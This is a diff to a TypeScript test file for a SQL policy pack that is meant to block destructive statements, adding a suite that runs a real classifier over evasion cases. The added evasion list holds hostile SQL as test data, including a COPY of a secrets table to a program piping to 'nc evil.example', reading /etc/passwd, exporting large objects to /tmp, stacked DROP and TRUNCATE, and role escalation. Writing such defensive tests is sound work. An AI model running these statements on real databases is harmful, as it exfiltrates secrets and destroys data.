@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
-import { describe, it } from 'node:test';
+import { before, describe, it } from 'node:test';
 import type { SqlFacts } from '../../../src/interaction.ts';
 import { compilePolicy } from '../../../src/policy/compile.ts';
+import { classifySql, initSqlClassifier } from '../../../src/classify/sql.ts';
 import { sqlInput } from '../support/inputs.ts';
 
 // The pack sits in front of a rule that allows all SQL, so any statement it misses is allowed: a bypass.
@@ -100,6 +101,26 @@ const evasions: Case[] = [
   ['SELECT 1; DROP TABLE (unterminated', { kinds: ['select'], parseError: 'syntax error at end of input', ...multi }, 'unparseable'],
 ];
 
+const safe: Case[] = [
+  ['SELECT id FROM orders WHERE id = 1', {}, ''],
+  ['SELECT * FROM orders', { flags: { select_star: true } }, ''],
+  ['SELECT 1 /* ; DROP TABLE users */', { kinds: ['select'], tables: [] }, ''],
+  ["SELECT 'DROP TABLE users'", { kinds: ['select'], tables: [] }, ''],
+  ['SELECT * FROM drop_log', { kinds: ['select'], tables: ['drop_log'] }, ''],
+  ['INSERT INTO orders (id) VALUES (1)', { kinds: ['insert'] }, ''],
+  ['UPDATE orders SET paid = true WHERE id = 1', { kinds: ['update'] }, ''],
+  ['DELETE FROM orders WHERE id = 1', { kinds: ['delete'] }, ''],
+  ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', { kinds: ['select', 'delete'] }, ''],
+  ['SET statement_timeout = 5000', { kinds: ['set'], tables: [] }, ''],
+  ['BEGIN', { kinds: ['transaction'], tables: [] }, ''],
+  ['EXPLAIN SELECT * FROM orders', { kinds: ['explain', 'select'] }, ''],
+  ['SELECT count(*), lower(name), now() FROM orders WHERE x', { functions: ['count', 'lower', 'now'] }, ''],
+  ['SELECT my_dblink_helper()', { functions: ['my_dblink_helper'] }, ''],
+  ['COPY orders TO STDOUT', { kinds: ['copy'] }, ''],
+  ['CREATE TABLE scratch (id int)', { kinds: ['create_table'] }, ''],
+  ['CALL refresh_stats()', { kinds: ['call'], tables: [] }, ''],
+];
+
 describe('sql-destructive pack', () => {
   it('is checked against at least 50 evasion shapes', () => assert.ok(evasions.length >= 50, `${evasions.length} cases`));
 
@@ -111,25 +132,6 @@ describe('sql-destructive pack', () => {
     });
   }
 
-  const safe: Case[] = [
-    ['SELECT id FROM orders WHERE id = 1', {}, ''],
-    ['SELECT * FROM orders', { flags: { select_star: true } }, ''],
-    ['SELECT 1 /* ; DROP TABLE users */', { kinds: ['select'], tables: [] }, ''],
-    ["SELECT 'DROP TABLE users'", { kinds: ['select'], tables: [] }, ''],
-    ['SELECT * FROM drop_log', { kinds: ['select'], tables: ['drop_log'] }, ''],
-    ['INSERT INTO orders (id) VALUES (1)', { kinds: ['insert'] }, ''],
-    ['UPDATE orders SET paid = true WHERE id = 1', { kinds: ['update'] }, ''],
-    ['DELETE FROM orders WHERE id = 1', { kinds: ['delete'] }, ''],
-    ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', { kinds: ['select', 'delete'] }, ''],
-    ['SET statement_timeout = 5000', { kinds: ['set'], tables: [] }, ''],
-    ['BEGIN', { kinds: ['transaction'], tables: [] }, ''],
-    ['EXPLAIN SELECT * FROM orders', { kinds: ['explain', 'select'] }, ''],
-    ['SELECT count(*), lower(name), now() FROM orders WHERE x', { functions: ['count', 'lower', 'now'] }, ''],
-    ['SELECT my_dblink_helper()', { functions: ['my_dblink_helper'] }, ''],
-    ['COPY orders TO STDOUT', { kinds: ['copy'] }, ''],
-    ['CREATE TABLE scratch (id int)', { kinds: ['create_table'] }, ''],
-    ['CALL refresh_stats()', { kinds: ['call'], tables: [] }, ''],
-  ];
   for (const [sql, facts] of safe) {
     it(`still allows ${JSON.stringify(sql)} through the rule that follows`, () => {
       const decision = engine.decide(sqlInput({ text: sql, ...facts }));
@@ -143,4 +145,52 @@ describe('sql-destructive pack', () => {
     const decision = other.decide(sqlInput({}, { kind: 'http.request', summary: { http: { method: 'DELETE', path: '/x', query: '', headers: {} } } }));
     assert.equal(decision.rule, 'allow-all');
   });
+});
+
+/** Shapes from test/classify/sql.test.ts and beyond that the facts-only table above does not spell out. */
+const moreEvasions: readonly string[] = [
+  'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
+  'select * from t where id in (with d as (delete from u returning id) select id from d)',
+  'with t as (select 1) delete from t',
+  '/* outer /* nested */ still a comment; select 1 */ drop table t',
+  "COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil.example 9'",
+  "copy t to '/tmp/dump'",
+  'select pg_catalog.pg_terminate_backend(1)',
+  "select (select lo_export(1, '/tmp/x'))",
+  "insert into t values (pg_read_file('/etc/passwd'))",
+  'set local role postgres',
+  'SET SESSION AUTHORIZATION DEFAULT',
+  'drop owned by alice',
+  'alter role bob set search_path = evil',
+  "create procedure p() language sql as 'select 1'",
+  'create event trigger e on ddl_command_start execute function f()',
+  'create trusted procedural language plx handler h',
+  'revoke admin from bob',
+  'create group g',
+  'update t set a = 1 from s',
+  'SELECT a INTO newt FROM t; DROP TABLE t',
+  'explain analyze with d as (delete from t returning 1) select 1',
+  'select 1 from t where id = 1 for update; truncate t',
+];
+
+describe('sql-destructive pack against the real SQL classifier', () => {
+  before(() => initSqlClassifier());
+
+  const statements = [...evasions.map(([sql]) => sql), ...moreEvasions];
+  it(`covers at least 50 evasion statements (${statements.length})`, () => assert.ok(statements.length >= 50));
+
+  for (const sql of statements) {
+    it(`denies ${JSON.stringify(sql)}`, () => {
+      const facts = classifySql(sql);
+      const decision = engine.decide(sqlInput(facts));
+      assert.equal(decision.action, 'deny', `bypass: classified as ${JSON.stringify({ kinds: facts.kinds, flags: facts.flags, parseError: facts.parseError })}`);
+      assert.match(decision.rule, /^sql-destructive\//);
+    });
+  }
+
+  for (const [sql] of safe) {
+    it(`still allows ${JSON.stringify(sql)}`, () => {
+      assert.equal(engine.decide(sqlInput(classifySql(sql))).action, 'allow');
+    });
+  }
 });
